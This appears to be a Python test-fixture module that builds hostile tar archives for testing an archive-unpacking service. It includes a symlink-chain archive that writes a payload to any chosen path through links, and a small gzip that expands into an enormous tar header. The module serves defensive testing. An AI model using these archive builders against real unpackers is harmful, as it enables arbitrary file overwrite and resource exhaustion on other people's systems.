"""Archives built the way an attacker builds them (shared by the unit and the over-HTTP tests)."""

from __future__ import annotations

import io
import tarfile
import zlib
from pathlib import Path

CHAIN_DEPTH = 40  # deeper than any workspace: the climb reaches "/" wherever the tree is unpacked


def _header(name: str, kind: bytes, size: int = 0, link: str = "", mode: int = 0o644) -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname, info.mode = kind, size, link, mode
    return info.tobuf(format=tarfile.PAX_FORMAT)


def _pad(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)


def symlink_chain_tar(target: Path, payload: bytes) -> bytes:
    """The confirmed write-anywhere archive: every link's text stays inside when read lexically,
    but `up` really is the archive's root, so `p/evil` resolves to `target`; a later regular
    member named `p/evil` is then written through it by an unpacker that follows links."""
    dirs = "/".join(f"d{i}" for i in range(CHAIN_DEPTH))
    climb = "/".join([".."] * (CHAIN_DEPTH + 1))
    blocks = [
        _header(f"p/{dirs}/", tarfile.DIRTYPE),
        _header(f"p/{dirs}/up", tarfile.SYMTYPE, link=climb),
        _header("p/evil", tarfile.SYMTYPE, link=f"{dirs}/up/{climb}{target}"),
        _header("p/evil", tarfile.REGTYPE, size=len(payload)),
        _pad(payload),
        b"\0" * (2 * tarfile.BLOCKSIZE),
    ]
    return _gzip([b"".join(blocks)])


def huge_header_tar(kind: bytes, header_bytes: int) -> bytes:
    """A small gzip whose tar stream opens with a pax (`x`) or GNU long-name (`L`) header of
    `header_bytes`: zeros, which compress about a thousandfold."""
    header = _header("././@LongLink" if kind == tarfile.GNUTYPE_LONGNAME else "pax", kind, header_bytes)
    zeros = b"\0" * (1 << 20)
    chunks = [header] + [zeros] * (header_bytes // len(zeros))
    chunks.append(b"\0" * (header_bytes % len(zeros) + 3 * tarfile.BLOCKSIZE))
    return _gzip(chunks)


def _gzip(chunks: list[bytes]) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = io.BytesIO()
    for chunk in chunks:
        out.write(compressor.compress(chunk))
    out.write(compressor.flush())
    return out.getvalue()


def tar_of(*members: tuple[str, bytes, bytes | str]) -> bytes:
    """(name, type, data or link target) members, in that order, duplicates allowed."""
    blocks = []
    for name, kind, content in members:
        if kind == tarfile.REGTYPE:
            data = content if isinstance(content, bytes) else content.encode()
            blocks += [_header(name, kind, size=len(data)), _pad(data)]
        else:
            blocks.append(_header(name, kind, link=content if isinstance(content, str) else ""))
    blocks.append(b"\0" * (2 * tarfile.BLOCKSIZE))
    return _gzip([b"".join(blocks)])
